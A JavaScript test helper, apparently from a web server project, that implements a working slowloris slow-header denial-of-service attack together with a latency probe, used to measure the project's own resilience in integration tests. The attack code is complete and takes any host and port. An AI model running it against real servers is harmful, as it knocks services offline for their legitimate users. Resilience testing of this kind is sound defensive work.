// slowloris.mjs — a slow-header attack and a probe that measures how other clients fare
// meanwhile.  Used by tests/integration/43_exposure.test.mjs, by tests/system/serve.sh and
// tests/system/debian-package.sh (as a command), and to measure docs/security.md's figures:
//
//   node tests/lib/slowloris.mjs --port P [--path /api/v2/me] [--user agent1:password]
//        [--sockets 200] [--byte-ms 100] [--seconds 20] [--attacker 127.0.0.1] [--probe 127.0.0.2]
//        [--max-ms N]   (exit 1 when a probe takes longer than N ms or gets no answer)
//
// The attack keeps `sockets` connections open, each sending a request's headers one byte at a
// time and never finishing them; a connection that the server closes is opened again at once.
// The probe is an ordinary client on another source address: a fresh connection, one
// authenticated GET, every 100 ms; it records how long each answer took.
import net from 'node:net';
import http from 'node:http';
import { fileURLToPath } from 'node:url';

const HEADERS = 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n'
  + Array.from({ length: 200 }, (_, i) => `X-Slow-${i}: ${'a'.repeat(8)}\r\n`).join('');

/** Start the attack; returns {stop(), stats()}. */
export function slowloris({ host = '127.0.0.1', port, sockets = 200, byteMs = 100, localAddress = '127.0.0.1' }) {
  let stopped = false;
  const live = new Set();
  const st = { opened: 0, closedByServer: 0, errors: 0, longestMs: 0 };

  function open() {
    if (stopped) return;
    const s = net.connect({ host, port, localAddress });
    const born = Date.now();
    let pos = 0;
    let timer = null;
    st.opened++;
    live.add(s);
    s.setNoDelay(true);
    s.on('connect', () => {
      timer = setInterval(() => {
        if (s.destroyed || !s.writable) return;
        s.write(HEADERS[pos % HEADERS.length]);
        pos++;
      }, byteMs);
    });
    s.on('data', () => {});   // a 408 or 400 the server sends before closing
    s.on('error', () => { st.errors++; });
    s.on('close', () => {
      clearInterval(timer);
      live.delete(s);
      st.longestMs = Math.max(st.longestMs, Date.now() - born);
      if (!stopped) {
        st.closedByServer++;
        setImmediate(open);
      }
    });
  }
  for (let i = 0; i < sockets; i++) open();
  return {
    stats: () => ({ ...st, live: live.size }),
    stop() {
      stopped = true;
      for (const s of live) s.destroy();
    },
  };
}

/** One request on a fresh connection; resolves {status, ms} (status 0: no answer in time). */
export function probeOnce({ host = '127.0.0.1', port, path = '/', auth, localAddress = '127.0.0.2', timeoutMs = 15000 }) {
  const t0 = process.hrtime.bigint();
  const ms = () => Number(process.hrtime.bigint() - t0) / 1e6;
  return new Promise((resolve) => {
    const headers = { Connection: 'close' };
    if (auth) headers.Authorization = 'Basic ' + Buffer.from(auth).toString('base64');
    const req = http.request({ host, port, path, localAddress, headers, agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode, ms: ms() }));
    });
    req.setTimeout(timeoutMs, () => { req.destroy(); });
    req.on('error', () => resolve({ status: 0, ms: ms() }));
    req.end();
  });
}

/** Probe every @everyMs for @seconds; resolves {count, failed, maxMs, p50Ms, statuses}. */
export async function probe({ seconds, everyMs = 100, ...opts }) {
  const results = [];
  const until = Date.now() + seconds * 1000;
  const pending = [];
  while (Date.now() < until) {
    pending.push(probeOnce(opts).then((r) => results.push(r)));
    await new Promise((r) => setTimeout(r, everyMs));
  }
  await Promise.all(pending);
  const times = results.map((r) => r.ms).sort((a, b) => a - b);
  const statuses = {};
  for (const r of results) statuses[r.status] = (statuses[r.status] || 0) + 1;
  return {
    count: results.length,
    failed: results.filter((r) => r.status === 0).length,
    maxMs: Math.round(times[times.length - 1] || 0),
    p50Ms: Math.round(times[Math.floor(times.length / 2)] || 0),
    statuses,
  };
}

/** Attack for @seconds while probing; resolves {probe, attack} (attack: the stats at the end). */
export async function measure({ port, sockets = 200, byteMs = 100, seconds = 20, path = '/', auth,
  attacker = '127.0.0.1', prober = '127.0.0.2', warmupMs = 3000 }) {
  const a = slowloris({ port, sockets, byteMs, localAddress: attacker });
  try {
    await new Promise((r) => setTimeout(r, warmupMs));   // every attack socket is open
    const p = await probe({ port, path, auth, seconds, localAddress: prober });
    return { probe: p, attack: a.stats() };
  } finally {
    a.stop();
  }
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const args = Object.fromEntries(process.argv.slice(2).reduce((acc, v, i, all) => {
    if (v.startsWith('--')) acc.push([v.slice(2), all[i + 1]]);
    return acc;
  }, []));
  const r = await measure({
    port: Number(args.port), sockets: Number(args.sockets || 200), byteMs: Number(args['byte-ms'] || 100),
    seconds: Number(args.seconds || 20), path: args.path || '/', auth: args.user,
    attacker: args.attacker || '127.0.0.1', prober: args.probe || '127.0.0.2',
  });
  console.log(JSON.stringify(r));
  const max = args['max-ms'] ? Number(args['max-ms']) : Infinity;
  if (r.probe.failed > 0 || r.probe.maxMs > max || r.probe.count === 0) process.exit(1);
}
